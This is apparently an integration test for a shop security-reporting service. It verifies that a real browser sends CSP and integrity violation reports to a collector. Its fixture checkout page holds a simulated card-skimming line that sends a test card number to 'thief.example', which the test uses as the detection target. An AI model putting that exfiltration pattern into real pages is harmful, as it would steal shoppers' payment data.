import { createHash, X509Certificate } from 'node:crypto';
import { createServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { serve } from '@hono/node-server';
import { Hono } from 'hono';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { findChromium } from '#engines/browser/find-chromium.ts';
import { openTelemetry } from '#engines/telemetry/open-telemetry.ts';
import { makeCertificate } from '#engines/testing/make-certificate.ts';
import { openTestHouse, type TestHouse } from '#engines/testing/open-test-house.ts';
import { addSource, registerShop } from '#registry/index.ts';
import { sourceHealth } from '../health/source-health.ts';
import { sourceToken } from '../source-token.ts';
import { intakeRoutes } from './intake-routes.ts';

let house: TestHouse;
const closers: (() => void)[] = [];
beforeAll(async () => {
  house = await openTestHouse(async (folder) => ({
    telemetry: await openTelemetry({ path: join(folder, 'telemetry'), retentionDays: null }),
  }));
});
afterAll(async () => {
  for (const close of closers) close();
  await house[Symbol.asyncDispose]();
});

async function serveTls(app: Hono, certificate: { readonly cert: string; readonly key: string }, hostname: string): Promise<number> {
  const server = serve({ fetch: app.fetch, port: 0, hostname, createServer, serverOptions: certificate });
  closers.push(() => server.close());
  await new Promise<void>((resolve) => server.once('listening', () => resolve()));
  const at = server.address();
  return typeof at === 'object' && at ? at.port : 0;
}

it('a real browser sends its batches of the Reporting API to another host over TLS, and all kinds are stored', async () => {
  const org = house.newOrg();
  const owner = house.scope(org, 'owner');
  const certificate = await makeCertificate({ names: ['localhost', '127.0.0.1'] });
  const asked: string[] = [];
  const collector = new Hono();
  collector.use(async (c, next) => {
    asked.push(`${c.req.method} ${c.req.header('content-type') ?? '-'} ${c.req.header('origin') ?? '-'}`);
    await next();
  });
  collector.route('/in', intakeRoutes({ house, authorise: async () => null }));
  const bell = await serveTls(collector, certificate, '127.0.0.1');
  let address = '';
  const pages = new Hono().get('/checkout', (c) => {
    c.header('Reporting-Endpoints', `shopbell="${address}", default="${address}"`);
    c.header('Content-Security-Policy-Report-Only', "script-src 'self'; connect-src 'self'; report-to shopbell");
    c.header('Integrity-Policy-Report-Only', 'blocked-destinations=(script), endpoints=(shopbell)');
    c.header('Permissions-Policy-Report-Only', 'geolocation=();report-to=shopbell');
    return c.html(`<title>checkout</title><script src="https://stranger.example/x.js?email=anna@mail.example"></script>
      <script src="/own.js"></script><script>fetch('https://thief.example/take?card=4111111111111111').catch(() => {});
      navigator.geolocation.getCurrentPosition(() => {}, () => {}); window.webkitRTCPeerConnection; new XMLHttpRequest().open('GET', '/', false);</script>`);
  });
  pages.get('/own.js', (c) => c.body('1', 200, { 'content-type': 'text/javascript' }));
  const port = await serveTls(pages, certificate, 'localhost');
  const { shop } = await registerShop(owner, {
    ...{
      name: 'Shop',
      url: `https://localhost:${port}`,
      platform: 'practice',
      allowPrivate: true,
      timeZone: 'Europe/Berlin',
      country: 'DE',
    },
    ...{ contact: { name: 'Care', address: 'care@shop.example' }, privacyContact: { name: 'P', address: 'privacy@shop.example' } },
  });
  const { source } = await addSource(owner, { kind: 'reports', shop, name: 'pages' });
  address = `https://127.0.0.1:${bell}/in/reports/${sourceToken(house.secrets, 'intake.reports', { org, source })}`;

  const spki = new X509Certificate(certificate.cert).publicKey.export({ type: 'spki', format: 'der' });
  const found = await findChromium(join(tmpdir(), 'shopbell-test-browser'));
  const browser = await chromium.launch({
    executablePath: found.path,
    env: { PATH: process.env.PATH ?? '', HOME: house.folder, TMPDIR: house.folder, ...found.env },
    // Reports leave at once instead of after a minute; only this one certificate is believed.
    args: [
      '--no-sandbox',
      '--short-reporting-delay',
      `--ignore-certificate-errors-spki-list=${createHash('sha256').update(spki).digest('base64')}`,
    ],
  });
  closers.push(() => void browser.close());
  const context = await browser.newContext();
  // Where nobody asks for it, as in a bare headless browser, reports stay behind.
  await context.grantPermissions(['background-sync']);
  const page = await context.newPage();
  await page.goto(`https://localhost:${port}/checkout`);
  const stored = () =>
    house.telemetry.query<{ kind: string; page: string; blocked: string; directive: string; disposition: string; body: string }>(
      org,
      'select kind, page, blocked, directive, disposition, body from @reports order by kind, blocked',
    );
  const kinds = async () => [...new Set((await stored()).map(({ kind }) => kind))];
  const wanted = ['csp-violation', 'deprecation', 'integrity-violation'];
  await expect.poll(kinds, { timeout: 30_000, interval: 500 }).toEqual(expect.arrayContaining(wanted));
  const rows = await stored();
  const at = `https://localhost:${port}/checkout`;
  const stranger = { page: at, blocked: 'https://stranger.example/x.js', disposition: 'report' };
  expect(rows).toContainEqual(expect.objectContaining({ kind: 'csp-violation', directive: 'script-src-elem', ...stranger }));
  expect(rows).toContainEqual(expect.objectContaining({ kind: 'integrity-violation', directive: 'script', ...stranger }));
  expect(rows).toContainEqual(
    expect.objectContaining({ kind: 'csp-violation', directive: 'connect-src', blocked: 'https://thief.example/take' }),
  );
  expect(JSON.stringify(rows)).not.toMatch(/anna@|4111/);
  const [preflight, ...sent] = asked;
  expect(preflight).toBe(`OPTIONS - https://localhost:${port}`);
  expect(sent).toContain(`POST application/reports+json https://localhost:${port}`);
  expect((await sourceHealth(house.scope(org)))[0]?.rejected).toEqual({});
}, 90_000);
